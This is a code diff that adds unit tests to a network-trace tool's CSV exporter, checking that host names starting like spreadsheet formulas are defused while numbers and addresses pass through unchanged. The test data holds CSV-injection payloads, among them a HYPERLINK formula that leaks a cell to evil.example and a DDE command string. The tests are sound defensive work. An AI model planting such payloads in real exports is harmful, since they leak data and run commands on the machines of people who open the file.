@@ -4,7 +4,7 @@ import type { Hop } from "@lg/protocol";
 import { TraceOptions } from "@lg/protocol";
 import { describe, expect, it } from "vitest";
 import { type TraceResult, Tracer } from "../tracer";
-import { formatCsv } from "./csv";
+import { csvText, formatCsv } from "./csv";
 import { formatMtrJson } from "./json";
 import { formatLiveTable } from "./live";
 import { formatReport } from "./report";
@@ -125,6 +125,44 @@ describe("formatCsv", () => {
       "LG.0.1.0,1795419505,OK,198.18.0.9,2,198.18.2.2,30.00,10,3,12.35,11.00,10.00,13.50,1.25",
     );
     expect(lines[3]).toContain(",3,???,100.00,10,10,");
+  });
+
+  it("a reverse-DNS name that starts like a formula is written as quoted text with a leading '", () => {
+    const names = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3",
+      "@SUM(1,2)",
+      "\t=1+1",
+      "\r=1+1",
+    ];
+    const hostile: TraceResult = {
+      ...result,
+      target: "=target",
+      hops: names.map((name, i) => hop(i + 1, { host: `198.18.0.${i + 1}`, name })),
+    };
+    const rows = formatCsv(hostile).trimEnd().split("\n").slice(1);
+    rows.forEach((row, i) => {
+      const name = names[i] as string;
+      // Target column, then the name column: both text, both defused.
+      expect(row).toContain(`,"'=target",${i + 1},"'${name.replaceAll('"', '""')}",`);
+    });
+  });
+
+  it("data stays data: numbers (a negative one too), addresses starting with a digit, and ordinary names", () => {
+    expect(csvText("2001:db8::1")).toBe("2001:db8::1");
+    expect(csvText("198.18.0.1")).toBe("198.18.0.1");
+    expect(csvText("::1")).toBe("::1");
+    expect(csvText("core1.fra.example.net")).toBe("core1.fra.example.net");
+    expect(csvText("a,b")).toBe('"a,b"');
+    expect(csvText('say "hi"')).toBe('"say ""hi"""');
+    // Numeric columns are not text: a negative value is written as the number it is.
+    const line = formatCsv(
+      { ...result, hops: [hop(1, { host: "2001:db8::1", avg: -1.5 })] },
+      { useNames: false },
+    ).split("\n")[1] as string;
+    expect(line.split(",")).toContain("-1.50");
+    expect(line).toContain(",1,2001:db8::1,");
   });
 });
 
